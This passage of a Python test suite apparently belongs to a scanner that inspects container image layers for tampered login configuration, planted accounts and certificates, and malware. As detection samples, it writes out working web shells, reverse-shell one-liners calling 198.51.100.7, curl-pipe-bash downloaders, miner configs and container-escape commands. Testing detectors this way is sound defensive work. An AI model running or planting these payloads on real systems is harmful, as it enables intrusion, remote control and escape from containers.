            "etc/nsswitch.conf": "passwd: files\nhosts: files dns\n"})
        layer = self.install("libs", {"lib/security/pam_quality.so": "m",
                                      "lib/libnss_mine.so.2": "n"}, **more)
        layer.update(files)
        return self.of_layer(self.analyze(base, layer)) - {("layer.package-database", "dpkg")}

    UNIX = "password [success=2 default=ignore] pam_unix.so use_authtok\n"
    REST = "password requisite pam_deny.so\npassword required pam_permit.so\n"
    PAM = "etc/pam.d/common-password"

    def test_a_module_that_its_package_enters_into_log_in(self):
        quality = "password requisite pam_quality.so retry=3\n"
        for files in ({self.PAM: quality + self.UNIX + self.REST},
                      {"etc/nsswitch.conf": "passwd: files\nhosts: files mine [NOTFOUND=return] dns\n"}):
            self.assertEqual(self.log_in(files),
                             {("layer.authentication-package", p) for p in files})

    def test_what_else_changes_in_log_in_is_told(self):
        quality = "password requisite pam_quality.so retry=3\n"
        for pam in (quality + self.UNIX + self.REST + "auth sufficient pam_evil.so\n",
                    quality + self.UNIX + self.REST.replace("required", "sufficient"),
                    quality + self.UNIX + "password required pam_permit.so\n",
                    quality + self.UNIX + self.REST + "@include evil\n",
                    self.UNIX + self.REST):
            self.assertEqual(self.log_in({self.PAM: pam}),
                             {("layer.authentication-module", self.PAM)}, pam)
        for nss in ("passwd: files evil\nhosts: files mine dns\n", "hosts: files mine dns\n",
                    "passwd: mine\nhosts: files dns\n"):
            self.assertEqual(self.log_in({"etc/nsswitch.conf": nss}),
                             {("layer.authentication-module", "etc/nsswitch.conf")}, nss)

    def test_a_module_that_is_not_as_its_package_says(self):
        found = self.log_in({self.PAM: "password requisite pam_quality.so\n" + self.UNIX + self.REST,
                             "lib/security/pam_quality.so": "trojan"})
        self.assertEqual(found, {("layer.authentication-module", self.PAM),
                                 ("layer.authentication-module", "lib/security/pam_quality.so")})

    def test_a_log_that_a_package_manager_would_not_shorten(self):
        base = dict(BASE, **{"var/log/dpkg.log": "installed\n" * 9})
        for text, wanted in (("", True), ("installed\n" * 10, False)):
            layer = self.install("last", {"usr/share/x": "x"}, **{"var/log/dpkg.log": text})
            self.assertEqual(("layer.log-truncated", "var/log/dpkg.log") in
                             self.of_layer(self.analyze(base, layer)), wanted)

    def test_what_one_command_does_is_told_once(self):
        base = dict(BASE, **{"etc/skel/.bashrc": "alias l=ls\n"})
        layer = {"etc/passwd": PASSWD + "new:x:1001:1001::/home/new:/bin/bash\n",
                 "etc/subuid": "new:1:1\n", "home/new/.bashrc": "alias l=ls\n",
                 "usr/local/share/ca-certificates/x.crt": EVIL_CA,
                 "etc/ssl/certs/x.pem": (link("/usr/local/share/ca-certificates/x.crt"), b""),
                 "etc/ssl/certs/0a.0": (link("x.pem"), b"")}
        self.assertEqual(self.of_layer(self.analyze(base, layer)), {
            ("layer.account", "etc/passwd"),
            ("layer.certificate", "usr/local/share/ca-certificates/x.crt")})
        del layer["etc/passwd"]
        layer["home/new/.bashrc"] += "evil\n"
        layer["etc/ssl/certs/0a.0"] = (link("/tmp/elsewhere"), b"")
        self.assertEqual(self.of_layer(self.analyze(base, layer)), {
            ("layer.account", "etc/subuid"), ("layer.shell-start", "home/new/.bashrc"),
            ("layer.certificate", "usr/local/share/ca-certificates/x.crt"),
            ("layer.certificate", "etc/ssl/certs/0a.0")})

    def test_what_hides_between_the_files_of_a_package_manager(self):
        layer = self.install("last", {"usr/share/x": "x"})
        layer["var/cache/apt/archives/run"] = (EXE, b"run")
        layer["var/lib/apt/lists/list"] = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
        layer["var/lib/apt/lists/honest"] = "Package: x\n"
        layer["srv/node_modules/.package-lock.json"] = "{}\n"
        layer["srv/node_modules/evil/package.json"] = '{"name": "evil", "version": "1.0.0"}'
        layer["srv/node_modules/evil/index.js"] = \
            '"stratum+tcp://pool:1 xmrig donate-level rx/0 randomx"'
        found = self.of_layer(self.analyze(BASE, layer))
        self.assertEqual(found - {("layer.package-database", s) for s in ("dpkg", "npm")}, {
            ("layer.executable-in-var", "var/cache/apt/archives/run"),
            ("layer.reverse-shell", "var/lib/apt/lists/list"),
            ("layer.miner", "srv/node_modules/evil/index.js")})

    def test_keys_of_the_host_that_sshds_package_makes(self):
        key = {"etc/ssh/ssh_host_ed25519_key.pub": "ssh-ed25519 AAAA root@build\n"}
        layer = self.install("openssh-server", {"usr/sbin/sshd": "sshd"}, **key)
        self.assertEqual(self.of_layer(self.analyze(BASE, layer)),
                         {("layer.package-database", "dpkg")})
        self.assertEqual(self.of_layer(self.analyze(BASE, key)),
                         {("layer.ssh", "etc/ssh/ssh_host_ed25519_key.pub")})

    def test_hosts_that_every_system_has(self):
        usual = "127.0.0.1\tlocalhost\n::1 localhost ip6-localhost ip6-loopback\nff02::1 ip6-allnodes\n"
        self.assertEqual(self.of_layer(self.analyze({}, {"etc/hosts": usual})), set())
        for line in ("127.0.0.1 updates.example.org\n", "10.1.2.3 localhost evil\n"):
            self.assertEqual(self.of_layer(self.analyze({}, {"etc/hosts": usual + line})),
                             {("layer.name-resolution", "etc/hosts")})

    def test_what_is_only_named_like_a_tool(self):
        layer = {"usr/share/terminfo/a/aws": "t", "usr/share/locale/az/x": "l",
                 "usr/share/bash-completion/completions/nmap": "c"}
        self.assertEqual(self.of_layer(self.analyze(BASE, layer)), set())
        for path, rule in (("usr/local/bin/kubectl", "layer_cluster_client_added"),
                           ("opt/x/nmap", "layer_attack_tool_added")):
            self.assertIn((rule, path), self.of_layer(self.analyze(BASE, {path: "t"})))

    def test_files_of_packages_above_the_ceiling_are_held_against_their_digests(self):
        files = {"zz/good": "good", "zz/bad": "bad"}
        layer = {f"srv/{i:05}": ({}, b"") for i in range(20001)}
        layer.update(self.install("last", files))
        layer["zz/bad"] = (EXE, b"another")
        found = self.of_layer(self.analyze(BASE, layer))
        self.assertEqual(found, {("layer.package-database", "dpkg"),
                                 ("layer.new-executable", "zz/bad")})


# -- signs.yar --------------------------------------------------------------------------

SHELLS = {
    "php_runs_request": ['<?php @eval($_POST["x"]); ?>', "<?= `$_GET[c]` ?>",
                         "<?php system(base64_decode($_COOKIE['k']));",
                         "<?php $_GET['f']($_GET['a']);", "<?php include($_REQUEST['p']);",
                         "<?php preg_replace('/x/e', $_POST['c'], 'x');"],
    "php_runs_variable_of_request": ['<?php $cmd = $_GET["cmd"]; echo shell_exec($cmd . " 2>&1");'],
    "php_runs_packed_code": ["<?php eval(gzinflate(base64_decode('80jNyclXyFTIL0tNAQ=='))); ?>"],
    "php_named_shell": ["<?php $auth_pass='x'; $default_action = 'FilesMan';"],
    "jsp_runs_request": ['<%@ page import="java.io.*" %><% Runtime.getRuntime().exec('
                         'request.getParameter("c")); %>'],
    "aspx_runs_request": ['<%@ Page Language="C#" %><% Process.Start("cmd", Request["c"]); %>',
                          '<%eval request("x")%>'],
    "script_runs_request": ["import cgi, os\nf = cgi.FieldStorage()\nos.system(f['c'].value)\n",
                            "@app.route('/')\ndef x():\n return os.popen(request.args['c']).read()",
                            "app.get('/', (req, res) => exec(req.query.c))",
                            '#!/bin/bash\neval "$(echo $QUERY_STRING)"\n'],
}
NO_SHELLS = [
    "<?php echo htmlspecialchars($_GET['name']); ?>", "<?php $id = (int) $_POST['id']; save($id);",
    "<?php $data = unserialize(base64_decode($row['data']));", "<?php exec('ls ' . $folder);",
    '<%@ page import="java.util.*" %><%= request.getParameter("name") %>',
    "Never write eval($_GET['x']) in PHP.", "import subprocess\nsubprocess.run(['ls'])\n",
    "<% if user %><p>Hello</p><% end %>",
]
SIGNS = {
    "reverse_shell": ["bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n",
                      "#!/bin/sh\nnc 198.51.100.7 4444 -e /bin/sh\n",
                      "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 1 > /tmp/f",
                      "import socket,subprocess,os\ns=socket.socket()\ns.connect(('x',1))\n"
                      "os.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n",
                      "socat TCP:198.51.100.7:4444 EXEC:/bin/bash,pty,stderr"],
    "miner": ['{"pools": [{"url": "stratum+tcp://pool.supportxmr.com:3333"}]}',
              '{"algo": "rx/0", "donate-level": 1}', b"\x7fELF" + b"xmrig 6.21 randomx"],
    "tunnel": [b"\x7fELF\x02" + b"x" * 40 + b"github.com/jpillora/chisel/client",
               "[common]\nserver_addr = 198.51.100.7\n[ssh]\nremote_port = 6000\n"],
    "attack_tool": [b"\x7fELF\x02" + b"x" * 40 + b"github.com/bishopfox/sliver/implant",
                    "#!/bin/sh\n# linpeas\nfind / -perm -4000\n"],
    "escape_tool": ["mkdir /tmp/c; echo 1 > /tmp/c/x/notify_on_release; echo $p > /tmp/c/release_agent",
                    "echo '|/x' > /proc/sys/kernel/core_pattern\n",
                    "#!/bin/sh\nnsenter -t 1 -m -u -i -n sh\n"],
    "rootkit": [b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0>\0" + b"readdir\0dlsym\0/etc/ld.so.preload\0"],
    "hidden_payload": [PNG + b"\0\0<?php system($c);", PNG + b"\0#!/bin/sh\nid\n",
                       b"GIF89a" + b"\0" * 20 + ELF[:64],
                       "#!/bin/sh\necho f0VMRgIBAQAAAA | base64 -d > /tmp/x\n"],
    "downloader": ["#!/bin/sh\ncurl -s http://198.51.100.7/x.sh | bash\n",
                   "#!/bin/sh\nwget -qO /tmp/x http://h/x && chmod +x /tmp/x\n",
                   "#!/bin/sh\necho aWQ= | base64 -d | sh\n"],
}
NO_SIGNS = [
    "To install, run nc on the other host and connect.\n", "#!/bin/sh\nexec nginx -g 'daemon off;'\n",
    '{"name": "randomx documentation"}', b"\x7fELF\x02" + b"x" * 40 + b"github.com/spf13/cobra",
    "[common]\nname = value\n", "#!/bin/sh\nfind / -perm -4000\n", "release_agent is a file\n",
    b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0>\0" + b"readdir\0closedir\0", PNG + b"pixels" * 50,
    "#!/bin/sh\ncurl -fsS http://localhost/health || exit 1\n", "Run: curl https://x/y | sh\n",
    "import socket\ns = socket.socket()\n", "#!/bin/sh\nbase64 -d < in > out\n",
]


class Signs(Layers):
    def rules_of(self, findings):
        return {(f["rule"], f["subject"], f["arguments"].get("rule")) for f in findings}

    def test_web_shells(self):
        layer = {f"var/www/html/{rule}{i}": text for rule, texts in SHELLS.items()
                 for i, text in enumerate(texts)}
        found = self.rules_of(self.analyze(BASE, layer))
        for rule, texts in SHELLS.items():
            for i in range(len(texts)):
                self.assertIn(("layer.web-shell", f"/var/www/html/{rule}{i}", rule), found)

    def test_pages_that_are_none(self):
        layer = {f"var/www/html/page{i}": text for i, text in enumerate(NO_SHELLS)}
        self.assertEqual([f for f in self.analyze(BASE, layer) if f["rule"] == "layer.web-shell"], [])

    def test_other_signs(self):
        layer = {f"srv/{tag}{i}": text for tag, texts in SIGNS.items()
                 for i, text in enumerate(texts)}
        found = self.subjects(self.analyze(BASE, layer))
        for tag, texts in SIGNS.items():
            for i in range(len(texts)):
                self.assertIn(("layer." + tag.replace("_", "-"), f"srv/{tag}{i}"), found)

    def test_what_is_no_sign(self):
        layer = {f"srv/file{i}": text for i, text in enumerate(NO_SIGNS)}
        tags = {"layer." + t.replace("_", "-") for t in SIGNS}
        self.assertEqual([(f["rule"], f["subject"], f["arguments"]) for f in
                          self.analyze(BASE, layer) if f["rule"] in tags], [])

    def test_every_rule_has_a_sample(self):
        with open("analyze/layer/signs.yar") as f:
            tags = set(re.findall(r"^rule \w+ : (\w+)$", f.read(), re.M))
        self.assertEqual(tags, set(SIGNS) | {"web_shell"})

    def test_the_bytes_of_the_match_are_cited(self):
        text = "<?php /* " + "x" * 100 + " */ eval($_POST['x']);"
        f = [f for f in self.analyze(BASE, {"var/www/html/x.php": text})
             if f["rule"] == "layer.web-shell"][0]
        span = f["spans"][0]
        cited = text[span["offset"]:span["offset"] + span["length"]]
        self.assertIn(cited, ("<?", "eval($_POST"))


if __name__ == "__main__":
    unittest.main()
